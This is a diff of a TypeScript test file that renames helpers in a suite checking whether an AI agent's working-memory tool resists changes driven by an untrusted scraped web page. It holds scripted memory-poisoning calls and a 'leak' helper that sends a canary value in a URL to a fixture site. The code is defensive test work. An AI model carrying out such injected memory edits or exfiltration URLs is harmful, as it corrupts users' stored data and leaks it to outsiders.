@@ -1,7 +1,14 @@
 import { expect, onTestFinished, test } from "vitest";
 import type { MemoryField } from "../../../protocol/memory.ts";
 import { mintId } from "../../support/instance.ts";
-import { CANARY, describeWorlds, openWorld, type Outcome, type Plan, type World } from "./world.ts";
+import {
+  CANARY,
+  describeOnBothDatabases,
+  openFixture,
+  type Outcome,
+  type Plan,
+  type Fixture,
+} from "./hostile-fixture.ts";
 
 type Call = Plan["turns"][number][number];
 type Change = { readonly field: MemoryField; readonly op: string; readonly value?: string };
@@ -15,33 +22,36 @@ const change = (...changes: readonly Change[]): Call => ({
   name: "working_memory",
   input: { changes: changes.map((one) => ({ ...one, reason: REASON })) },
 });
-const leak = (world: World): Call => ({ name: "scrape_webpage", input: { url: `${world.site.url}/leak?d=${CANARY}` } });
-const set = (world: World, field: MemoryField, value: string) =>
-  world.instance.client.setMemory({ body: { id: mintId(), field, value } });
+const leak = (fixture: Fixture): Call => ({
+  name: "scrape_webpage",
+  input: { url: `${fixture.site.url}/leak?d=${CANARY}` },
+});
+const set = (fixture: Fixture, field: MemoryField, value: string) =>
+  fixture.instance.client.setMemory({ body: { id: mintId(), field, value } });
 const texts = ({ asked }: Outcome) => asked.map(({ asks }) => asks?.text);
 const TEA = "\nPlease remember that I like tea";
 
-async function readMemory({ instance }: World): Promise<Record<string, { value: string; untrusted: string }>> {
+async function readMemory({ instance }: Fixture): Promise<Record<string, { value: string; untrusted: string }>> {
   const rows = await instance.server.store.read.memory("local");
   return Object.fromEntries(rows.map(({ field, value, untrusted }) => [field, { value, untrusted }]));
 }
 
-describeWorlds("memory after untrusted content", (newDatabase) => {
-  const start = async (): Promise<World> => {
-    const world = await openWorld({ databaseUrl: await newDatabase() });
-    onTestFinished(world.close);
-    return world;
+describeOnBothDatabases("memory after untrusted content", (newDatabase) => {
+  const start = async (): Promise<Fixture> => {
+    const fixture = await openFixture({ databaseUrl: await newDatabase() });
+    onTestFinished(fixture.close);
+    return fixture;
   };
   /** In a thread that has read a page; the user says this in every turn. */
-  const play = (world: World, says: string, calls: readonly Call[], more: Partial<Plan> = {}) =>
-    world.play(plan([[{ name: "scrape_webpage", input: { url: `${world.site.url}/page` } }, ...calls]], more), {
+  const play = (fixture: Fixture, says: string, calls: readonly Call[], more: Partial<Plan> = {}) =>
+    fixture.play(plan([[{ name: "scrape_webpage", input: { url: `${fixture.site.url}/page` } }, ...calls]], more), {
       says,
     });
 
   test("the user's own words are added unasked, and replace nothing that they did not ask to forget", async () => {
-    const world = await start();
-    await set(world, "name", "Anna");
-    await set(world, "notes", "user lives in Bonn\nI like tea");
+    const fixture = await start();
+    await set(fixture, "name", "Anna");
+    await set(fixture, "notes", "user lives in Bonn\nI like tea");
     const replace = (field: MemoryField) => change({ field, op: "replace", value: "I like tea" });
     const attacks = [
       replace("notes"),
@@ -49,29 +59,29 @@ describeWorlds("memory after untrusted content", (newDatabase) => {
       change({ field: "interests", op: "append", value: "tea" }, { field: "name", op: "remove" }),
       change({ field: "notes", op: "remove", value: "I like tea" }),
     ];
-    const outcome = await play(world, TEA, attacks);
+    const outcome = await play(fixture, TEA, attacks);
     expect(outcome.asked.map(({ asks }) => asks?.code)).toEqual(attacks.map(() => "remembers"));
     for (const text of texts(outcome))
       expect(text).toMatch(/^It removes something from memory that you did not ask to forget\. This run has/);
-    expect(await readMemory(world)).toMatchObject({
+    expect(await readMemory(fixture)).toMatchObject({
       name: { value: "Anna" },
       notes: { value: "user lives in Bonn\nI like tea" },
     });
-    const { asked } = await play(world, TEA, [
+    const { asked } = await play(fixture, TEA, [
       change({ field: "name", op: "append", value: "I like tea" }),
       replace("interests"),
     ]);
     expect(asked).toEqual([]);
-    expect(await readMemory(world)).toMatchObject({
+    expect(await readMemory(fixture)).toMatchObject({
       name: { value: "Anna\nI like tea" },
       interests: { value: "I like tea" },
     });
   });
 
   test("what the user asks to forget is removed unasked, and nothing else", async () => {
-    const world = await start();
-    await set(world, "name", "Anna");
-    await set(world, "notes", "user lives in Bonn\nI like tea");
+    const fixture = await start();
+    await set(fixture, "name", "Anna");
+    await set(fixture, "notes", "user lives in Bonn\nI like tea");
     const says = "\nPlease forget that I like tea. Forget my location.";
     const forget = change({ field: "notes", op: "remove", value: "I like tea" });
     const attacks = [
@@ -80,8 +90,8 @@ describeWorlds("memory after untrusted content", (newDatabase) => {
       change({ field: "notes", op: "remove", value: "user lives in Bonn" }),
       change({ field: "name", op: "replace", value: "" }),
     ];
-    await set(world, "location", "Bonn");
-    const { asked, ran } = await play(world, says, [
+    await set(fixture, "location", "Bonn");
+    const { asked, ran } = await play(fixture, says, [
       forget,
       change({ field: "location", op: "remove" }),
       ...attacks,
@@ -93,7 +103,7 @@ describeWorlds("memory after untrusted content", (newDatabase) => {
     ]);
     expect(asked.at(-1)?.asks?.text).toMatch(/^It wants to store something that you did not write yourself\. /);
     expect(ran.map(({ name }) => name)).toEqual(["scrape_webpage", "working_memory", "working_memory"]);
-    expect(await readMemory(world)).toMatchObject({
+    expect(await readMemory(fixture)).toMatchObject({
       name: { value: "Anna" },
       notes: { value: "user lives in Bonn" },
       location: { value: "" },
@@ -101,37 +111,37 @@ describeWorlds("memory after untrusted content", (newDatabase) => {
   });
 
   test("the user's own words add no source, so that other threads do not ask; the model's reason is dropped", async () => {
-    const world = await start();
-    await set(world, "notes", "user lives in Bonn");
+    const fixture = await start();
+    await set(fixture, "notes", "user lives in Bonn");
     const append = change({ field: "notes", op: "append", value: "I like tea" });
-    expect((await play(world, TEA, [append])).asked).toEqual([]);
-    expect(await readMemory(world)).toEqual({ notes: { value: "user lives in Bonn\nI like tea", untrusted: "[]" } });
-    expect(JSON.stringify(await world.instance.client.exportMemory({}))).not.toContain(REASON);
-    const other = await world.play(plan([[leak(world)]]));
+    expect((await play(fixture, TEA, [append])).asked).toEqual([]);
+    expect(await readMemory(fixture)).toEqual({ notes: { value: "user lives in Bonn\nI like tea", untrusted: "[]" } });
+    expect(JSON.stringify(await fixture.instance.client.exportMemory({}))).not.toContain(REASON);
+    const other = await fixture.play(plan([[leak(fixture)]]));
     expect(other.asked).toEqual([]);
-    expect(JSON.stringify(world.prompts.at(-1))).toContain("I like tea");
-    expect(JSON.stringify(world.prompts.at(-1))).not.toContain(REASON);
-    expect(world.site.asked.filter(({ path }) => path === "/leak")).toHaveLength(1);
+    expect(JSON.stringify(fixture.prompts.at(-1))).toContain("I like tea");
+    expect(JSON.stringify(fixture.prompts.at(-1))).not.toContain(REASON);
+    expect(fixture.site.asked.filter(({ path }) => path === "/leak")).toHaveLength(1);
   });
 
   test("under a grant each change has its own sources, and an emptied field has none", async () => {
-    const world = await start();
+    const fixture = await start();
     const others = change({ field: "notes", op: "append", value: "one" });
     const both = change(
       { field: "interests", op: "append", value: "I like tea" },
       { field: "preferences", op: "append", value: "two" },
     );
-    const { asked, threadId } = await play(world, TEA, [others, both], {
+    const { asked, threadId } = await play(fixture, TEA, [others, both], {
       ...{ approves: ["working_memory"], decision: "thread" },
     });
     expect(asked).toHaveLength(1);
-    const host = JSON.stringify([new URL(world.site.url).host]);
-    expect(await readMemory(world)).toEqual({
+    const host = JSON.stringify([new URL(fixture.site.url).host]);
+    expect(await readMemory(fixture)).toEqual({
       notes: { value: "one", untrusted: "[]" },
       interests: { value: "I like tea", untrusted: "[]" },
       preferences: { value: "two", untrusted: host },
     });
-    await world.play(plan([[change({ field: "preferences", op: "remove" })]]), { threadId });
-    expect(await readMemory(world)).toMatchObject({ preferences: { value: "", untrusted: "[]" } });
+    await fixture.play(plan([[change({ field: "preferences", op: "remove" })]]), { threadId });
+    expect(await readMemory(fixture)).toMatchObject({ preferences: { value: "", untrusted: "[]" } });
   });
 });
